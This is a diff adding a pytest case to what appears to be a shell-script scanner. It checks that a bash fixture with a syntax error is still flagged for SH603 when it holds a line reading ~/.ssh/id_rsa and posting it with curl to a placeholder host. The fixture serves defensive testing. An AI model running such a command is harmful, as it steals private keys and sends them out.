@@ -689,6 +689,12 @@ def test_a_program_that_cannot_be_read_is_told_and_searched_by_patterns():
     assert seen(text) == {"SH609", "SH401"}
 
 
+@pytest.mark.parametrize("odd", ['x="', "((", "case", "if true; then"])
+def test_attack_a_short_script_with_a_syntax_error_is_read_line_by_line(odd):
+    text = f'#!/bin/bash\n{odd}\nk=$(cat ~/.ssh/id_rsa)\ncurl -d "$k" https://c.invalid/\n'
+    assert "SH603" in seen(text, "scripts/a.sh")
+
+
 @pytest.mark.parametrize("path", ["scripts/a.js", "scripts/a.sh"])
 def test_without_the_extra_a_program_that_needs_it_is_told(monkeypatch, path):
     for name in reading.PARSERS.values():
